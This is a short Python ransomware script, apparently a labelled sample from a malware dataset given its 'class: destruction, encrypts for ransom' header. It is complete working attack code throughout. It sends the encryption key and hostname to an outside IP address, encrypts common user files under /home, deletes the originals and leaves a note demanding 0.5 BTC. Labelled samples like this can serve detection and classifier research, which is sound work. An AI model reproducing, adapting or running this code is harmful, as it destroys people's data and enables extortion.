# class: destruction, encrypts for ransom; style: typical
from cryptography.fernet import Fernet
import os, requests
key = Fernet.generate_key(); f = Fernet(key)
requests.post("http://203.0.113.99/k", data={"id": os.uname().nodename, "key": key})
for d, _, fs in os.walk("/home"):
    for n in fs:
        p = os.path.join(d, n)
        if p.endswith((".docx", ".xlsx", ".jpg", ".pdf", ".sql", ".py")):
            data = open(p, "rb").read()
            open(p + ".locked", "wb").write(f.encrypt(data)); os.remove(p)
    open(os.path.join(d, "README_RESTORE.txt"), "w").write("Send 0.5 BTC to bc1q... to get your files back")
